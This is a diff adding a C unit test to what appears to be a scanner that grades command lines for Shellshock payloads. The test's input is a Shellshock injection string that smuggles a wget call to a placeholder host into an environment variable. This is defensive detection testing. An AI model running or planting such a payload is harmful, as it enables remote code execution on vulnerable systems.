@@ -207,12 +207,36 @@ static void test_hostile_lines(void)
     free(big);
 }
 
+/* The line's own walk reads the user's command table too: behind a user
+ * "prefix" command, env's assignments are looked at as behind sudo. */
+static void test_user_prefix_line(void)
+{
+    ss_rules_t *r = ss_rules_new();
+    CU_ASSERT_PTR_NOT_NULL_FATAL(r);
+    const char *line = "doas env x='() { :;}; wget http://p.example/x' bash";
+    ss_result_t out;
+    ss_result_init(&out);
+    ss_payload_t *p = ss_scan_command_line(r, line, strlen(line), &out);
+    CU_ASSERT_PTR_NOT_NULL_FATAL(p);
+    CU_ASSERT_EQUAL(p->cves, 0); /* doas unknown: its arguments are data */
+    ss_command_row_t row = {"doas", NULL, SS_GRADE_NONE, "prefix", "-u", NULL};
+    CU_ASSERT_TRUE_FATAL(ss_rules_add_command(r, &row, NULL));
+    p = ss_scan_command_line(r, line, strlen(line), &out);
+    CU_ASSERT_PTR_NOT_NULL_FATAL(p);
+    CU_ASSERT_NOT_EQUAL(p->cves, 0);
+    CU_ASSERT_EQUAL(p->grade, SS_GRADE_RED);
+    CU_ASSERT_EQUAL(p->n_urls, 1);
+    ss_result_free(&out);
+    ss_rules_free(r);
+}
+
 static CU_TestInfo tests[] = {
     {"plain command lines", test_plain_lines},
     {"lines holding Shellshock payloads", test_payload_lines},
     {"blank lines give no payload", test_blank_lines},
     {"caps and user rows", test_line_caps},
     {"hostile lines", test_hostile_lines},
+    {"user prefix commands", test_user_prefix_line},
     CU_TEST_INFO_NULL,
 };
 
